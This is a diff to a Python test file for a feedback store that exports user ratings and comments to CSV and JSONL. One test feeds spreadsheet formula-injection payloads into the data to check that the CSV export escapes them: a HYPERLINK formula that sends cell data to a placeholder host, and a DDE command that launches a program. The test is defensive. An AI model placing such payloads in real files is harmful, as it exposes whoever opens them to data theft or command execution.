@@ -18,12 +18,12 @@ def test_exports_hold_what_was_shown(tmp_path: Path) -> None:
     store = FeedbackStore(tmp_path / "feedback.sqlite3")
     store.add("up", "Quel levier pour le foncier ?", "Levier : observatoires", False, [CITATION], "utile")
     store.add("down", "Loyer à Nîmes ?", "Je ne trouve pas…", True, [])
-    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
+    rows = list(csv.DictReader(io.StringIO("".join(store.export("csv")))))
     assert [(row["rating"], row["question"], row["refused"], row["comment"]) for row in rows] == [
         ("up", "Quel levier pour le foncier ?", "0", "utile"),
         ("down", "Loyer à Nîmes ?", "1", ""),
     ]
-    lines = [json.loads(line) for line in store.export("jsonl").splitlines()]
+    lines = [json.loads(line) for line in "".join(store.export("jsonl")).splitlines()]
     assert lines[0]["citations"] == [CITATION] and lines[1]["refused"] is True
 
 
@@ -32,10 +32,12 @@ def test_a_comment_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
     hostile = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
     for comment in hostile:
         store.add("down", comment, "réponse", False, [], comment)
-    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
+    rows = list(csv.DictReader(io.StringIO("".join(store.export("csv")))))
     assert [row["comment"] for row in rows] == ["'" + comment for comment in hostile]
     assert [row["question"] for row in rows] == ["'" + comment for comment in hostile]
-    assert [json.loads(line)["comment"] for line in store.export("jsonl").splitlines()] == hostile  # data kept as is
+    assert [
+        json.loads(line)["comment"] for line in "".join(store.export("jsonl")).splitlines()
+    ] == hostile  # data kept as is
 
 
 def test_the_store_is_capped_and_keeps_the_oldest(tmp_path: Path) -> None:
@@ -44,4 +46,5 @@ def test_the_store_is_capped_and_keeps_the_oldest(tmp_path: Path) -> None:
         store.add("up", f"question {number}", "réponse", False, [])
     with pytest.raises(FeedbackFull):
         store.add("up", "question 3", "réponse", False, [])
-    assert [row["question"] for row in store.rows()] == ["question 0", "question 1", "question 2"]
+    kept = [json.loads(line)["question"] for line in store.export("jsonl")]
+    assert kept == ["question 0", "question 1", "question 2"]
